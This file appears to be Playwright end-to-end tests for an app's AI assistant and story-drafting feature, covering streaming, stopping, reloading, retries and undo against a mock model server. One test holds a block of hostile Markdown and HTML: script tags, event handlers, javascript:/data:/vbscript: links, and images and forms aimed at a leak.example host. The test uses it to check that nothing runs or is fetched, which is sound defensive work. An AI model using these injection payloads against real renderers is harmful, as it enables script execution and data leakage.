/** The assistant and drafts with a model that takes its time, played by these tests. */
import AxeBuilder from "@axe-core/playwright";
import { begin, events, say, startModelServer } from "@/lib/ai/testing";
import { paths } from "@/lib/paths";
import { expect, message, test } from "../fixtures.ts";

// One model for all of them: they take turns.
test.describe.configure({ mode: "serial" });
test.use({ baseURL: process.env.TEST_MODEL_APP_URL });

let model: Awaited<ReturnType<typeof startModelServer>>;
test.beforeAll(async () => {
  model = await startModelServer(Number(process.env.TEST_MODEL_PORT));
});
test.afterAll(() => model.stop());

/** The chunks of an answer, one to be written at a time. */
const chunksOf = (...words: string[]) =>
  events(words.map((content) => ({ content })))
    .split("\n\n")
    .map((chunk) => `${chunk}\n\n`);

/** Says the first part at once and the second when it is told to. */
function inTwoParts(first: string, second: string) {
  const gate = Promise.withResolvers<void>();
  model.answerWith(async (_, response) => {
    const chunks = chunksOf(first, second);
    begin(response).write(chunks[0]);
    await gate.promise;
    response.end(chunks.slice(1).join(""));
  });
  return gate.resolve;
}

test("stopped, reloaded and left in the middle of an answer", async ({
  page,
  context,
  signIn,
  seedCompany,
}) => {
  test.slow();
  const company = await seedCompany({ admin: await signIn() });
  await page.goto(paths.assistant(company.id));
  await expect(page.getByText("Built-in search")).toHaveCount(0);
  const field = page.getByRole("textbox", { name: "Your question" });
  const answer = page.getByRole("article", { name: "Answer" });

  // Reloaded: the same answer goes on, without asking the model again.
  const goOn = inTwoParts("Once upon ", "a time.");
  await field.fill("Tell me a story");
  await field.press("Enter");
  await expect(answer).toContainText("Once upon");
  await expect(page).toHaveURL(/\/assistant\/[0-9a-f-]{36}$/);
  await page.reload();
  await expect(answer).toContainText("Once upon");
  await expect(page.getByRole("button", { name: "Stop" })).toBeVisible();
  goOn();
  await expect(answer).toHaveText(/^Once upon a time\.$/);
  await expect(answer.getByRole("button", { name: "Answer again" })).toBeVisible();
  await expect(page.getByText("Answer: Once upon a time.", { exact: true })).toBeAttached();
  expect(model.calls).toHaveLength(1);

  // Stopped: the call ends, what came is kept and said to be cut.
  inTwoParts("The boat leaves ", "never.");
  await field.fill("And then?");
  await field.press("Enter");
  await expect(answer.last()).toContainText("The boat leaves");
  await page.getByRole("button", { name: "Stop" }).click();
  await expect(answer.last()).toContainText("Stopped before its end.");
  await expect.poll(() => model.calls[0]?.aborted).toBe(true);
  await expect(field).toBeFocused();
  await page.reload();
  await expect(answer.last()).toContainText("The boat leaves");
  await expect(answer.last()).toContainText("Stopped before its end.");

  // Left: nobody reads on, and a few seconds later the call ends.
  inTwoParts("To nobody ", "at all.");
  const left = await context.newPage();
  await left.goto(page.url());
  await left.getByRole("textbox", { name: "Your question" }).fill("Are you there?");
  await left.keyboard.press("Enter");
  await expect(left.getByRole("article", { name: "Answer" }).last()).toContainText("To nobody");
  await left.close();
  await expect.poll(() => model.calls[0]?.aborted, { timeout: 20_000 }).toBe(true);
  expect(model.calls).toHaveLength(1);

  // It breaks down: said, and asked again.
  model.answerWith((_, response) => void response.writeHead(500).end("{}"));
  await page.reload();
  await field.fill("Once more?");
  await field.press("Enter");
  await expect(page.getByRole("main").getByRole("alert")).toContainText("failed to answer");
  model.answerWith((_, response) => say(response, ["Here I am."]));
  await page.getByRole("button", { name: "Try again" }).click();
  await expect(answer.last()).toContainText("Here I am.");
});

const HOSTILE = `
# Heading <script>window.taken = 1</script>

<script>window.taken = 1</script><img src="https://leak.example/a.png" onerror="window.taken = 1">
<iframe src="https://leak.example/frame"></iframe><svg onload="window.taken = 1"></svg>
<style>body { background: url(https://leak.example/style) }</style>
<a href="javascript:window.taken = 1" onclick="window.taken = 1">html link</a>
<form action="https://leak.example/form"><input name="q"><button>Send</button></form>

![pixel](https://leak.example/pixel.png?secret=1) ![ref][p] [script](javascript:window.taken=1)
[data](data:text/html,<script>window.taken=1</script>) [file](vbscript:x) [fine](https://fine.example/page)
[1](#source-9) [2](//leak.example/x) [local](/companies)

[p]: https://leak.example/ref.png

\`\`\`mermaid
graph TD; A-->B; click A "javascript:window.taken=1"
\`\`\`

$$\\href{javascript:window.taken=1}{x}$$

| ${Array.from({ length: 30 }, (_, n) => `column${n}`).join(" | ")} |
| ${Array.from({ length: 30 }, () => "---").join(" | ")} |
${Array.from({ length: 30 }, (_, n) => `| ${Array.from({ length: 30 }, () => `cell${n}`).join(" | ")} |`).join("\n")}

The end of it.
`;

test("hostile Markdown is text: nothing runs, nothing is fetched, nothing bursts the page", async ({
  page,
  signIn,
  seedCompany,
}) => {
  test.slow();
  const company = await seedCompany({ admin: await signIn() });
  const elsewhere: string[] = [];
  page.on("request", (request) => {
    if (/\.example\b/.test(request.url())) elsewhere.push(request.url());
  });
  model.answerWith((_, response) => say(response, HOSTILE.split(/(?<= )/), 700));
  await page.goto(paths.assistant(company.id, "Show me"));
  await page.getByRole("textbox", { name: "Your question" }).press("Enter");
  const answer = page.getByRole("article", { name: "Answer" });
  await expect(answer).toContainText("The end of it.");
  await expect(answer.getByRole("button", { name: "Answer again" })).toBeVisible();

  async function harmless() {
    expect(
      await answer.locator("script, img, iframe, style, form, input, object, embed").count(),
    ).toBe(0);
    expect(await answer.locator("a").evaluateAll((all) => all.map((a) => a.outerHTML))).toEqual([
      expect.stringContaining('href="https://fine.example/page"'),
    ]);
    expect(
      await answer
        .locator("*")
        .evaluateAll((all) =>
          all.flatMap(({ attributes }) =>
            [...attributes].map(({ name, value }) => `${name}=${value}`),
          ),
        )
        .then((all) => all.filter((one) => /^on|javascript:|data:text|vbscript:/i.test(one))),
    ).toEqual([]);
    expect(await page.evaluate(() => "taken" in window)).toBe(false);
    expect(elsewhere).toEqual([]);
  }
  await harmless();
  await page.reload();
  await expect(answer).toContainText("The end of it.");
  await harmless();
  await page.setViewportSize({ width: 390, height: 844 });
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
});

test("a story's draft: arrives while it is written, is stopped, taken out, written again, kept", async ({
  page,
  db,
  signIn,
  seedCompany,
  seedExperience,
}) => {
  test.slow();
  const author = await signIn();
  const company = await seedCompany({ member: author });
  const place = await seedExperience(company, { name: "Lantern pier", status: "active" });

  await page.goto(paths.stories(company.id));
  await page.getByRole("main").getByRole("link", { name: "New story" }).click();
  const bar = page.getByRole("region", { name: "Draft" });
  await expect(bar).toContainText("Choose an experience first.");
  await page.getByRole("combobox", { name: "Experience" }).selectOption(place.name);
  await page.getByRole("textbox", { name: /^Notes/ }).fill("We floated a lantern.");
  const voice = page.getByRole("textbox", { name: "Voice of the channel" });
  await voice.fill("Dry and short.");
  const text = page.getByRole("textbox", { name: /^Text/ });
  await text.fill("What I wrote myself.");

  const whole = (story: string) =>
    JSON.stringify({
      story_content: story,
      long_tail_keyword: "lantern pier",
      seo_title_tag: "A lantern on the river",
      seo_excerpt: "We floated a lantern.",
      seo_meta_desc: "An evening at Lantern pier.",
      seo_slug: "lantern pier",
      hashtags: ["#lantern", "#river"],
    });
  const cut = (json: string) => [json.slice(0, 60), json.slice(60)] as const;

  // Stopped: the call ends, what came is in the field, and what stood there comes back.
  inTwoParts(...cut(whole("A paper boat with a light in it left us.")));
  await bar.getByRole("button", { name: "Draft the story" }).click();
  await expect(text).toHaveValue(/^A paper boat/);
  await expect(text).toHaveAttribute("readonly");
  await bar.getByRole("button", { name: "Stop" }).click();
  await expect.poll(() => model.calls[0]?.aborted).toBe(true);
  const asked = model.calls[0]?.body.messages.map(({ content }) => JSON.stringify(content)).join();
  expect(asked).toContain("Dry and short.");
  await bar.getByRole("button", { name: "Undo the draft" }).click();
  await expect(text).toHaveValue("What I wrote myself.");
  // Even that can be taken back.
  await page.getByRole("button", { name: "Undo", exact: true }).click();
  await expect(text).toHaveValue(/^A paper boat/);
  await bar.getByRole("button", { name: "Undo the draft" }).click();

  // Whole, then again with a wish.
  model.answerWith((_, response) => say(response, cut(whole("First of all drafts."))));
  await bar.getByRole("button", { name: "Draft the story" }).click();
  await expect(text).toHaveValue("First of all drafts.");
  await expect(page.getByRole("textbox", { name: "Hashtags" })).toHaveValue("#lantern #river");
  await expect(page.getByRole("textbox", { name: "Address in links" })).toHaveValue("lantern-pier");
  const { violations } = await new AxeBuilder({ page }).analyze();
  expect(violations.map(({ id, nodes }) => [id, nodes.map(({ html }) => html)])).toEqual([]);

  model.answerWith((_, response) => say(response, cut(whole("Second, and shorter."))));
  await bar.getByRole("textbox", { name: "What should be different?" }).fill("Shorter");
  await bar.getByRole("button", { name: "Write again" }).click();
  await expect(text).toHaveValue("Second, and shorter.");
  const wish = JSON.stringify(model.calls[0]?.body.messages);
  expect(wish).toContain("First of all drafts.");
  expect(wish).toContain("Shorter");
  await bar.getByRole("button", { name: "Undo the draft" }).click();
  await expect(text).toHaveValue("First of all drafts.");
  await bar.getByRole("button", { name: "Keep" }).click();

  await page.getByRole("button", { name: "Save draft" }).click();
  await expect(message(page, "Draft created")).toBeVisible();
  await expect(page).toHaveURL(/\/stories\/[0-9a-f-]{36}$/);
  await page.getByRole("button", { name: "Publish" }).click();
  await expect(message(page, "The story is published")).toBeVisible();
  const { data } = await db
    .from("stories")
    .select("status,story_content,hashtags,channels(brand_voice)")
    .eq("user_id", author.id);
  expect(data).toEqual([
    {
      status: "PUBLISHED",
      story_content: "First of all drafts.",
      hashtags: ["#lantern", "#river"],
      channels: { brand_voice: "Dry and short." },
    },
  ]);

  // A model that fails leaves the text alone.
  model.answerWith((_, response) => void response.writeHead(500).end("{}"));
  await bar.getByRole("button", { name: "Draft the story" }).click();
  await expect(bar.getByRole("alert")).toContainText("could not be written");
  await expect(text).toHaveValue("First of all drafts.");
});
